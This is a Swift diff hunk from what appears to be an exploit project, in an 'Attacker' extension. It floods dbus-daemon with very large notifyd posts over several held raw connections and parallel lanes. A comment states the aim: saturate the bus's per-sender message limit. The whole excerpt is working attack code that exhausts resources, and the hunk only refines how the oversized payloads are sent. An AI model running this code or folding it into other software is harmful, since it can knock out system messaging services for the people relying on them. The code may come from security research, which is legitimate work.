@@ -46,14 +46,15 @@ extension Attacker {
         let rule = WireBuffer { $0.string("type='signal',sender='\(Notifyd.name)'") }
         let held = (0..<3).compactMap { _ in RawConnection(address) }
         for connection in held { _ = connection.call(BusDriver.call("AddMatch", "s", rule)) }
-        let posts = [1000, 250_000].map { length in
+        func post(_ length: Int) -> WireMessage {
             Notifyd.post("user.uid.\(getuid())." + String(repeating: "a", count: length))
         }
         // Before it is ready it has as much on its way as dbus-daemon holds of one sender, if notifyd posts that.
         if let connection = RawConnection(address) {
-            for _ in 0..<600 where connection.call(posts[1])?.kind != WireMessage.Kind.answer.rawValue { break }
+            for _ in 0..<600 where connection.call(post(250_000))?.kind != WireMessage.Kind.answer.rawValue { break }
         }
-        lanes(8, keeping: held) { connection, round in connection.call(posts[round / 8 % posts.count]) != nil }
+        let short = post(1000)
+        lanes(8, keeping: held) { connection, _ in connection.call(short) != nil }
     }
 
     func suspendItself() {
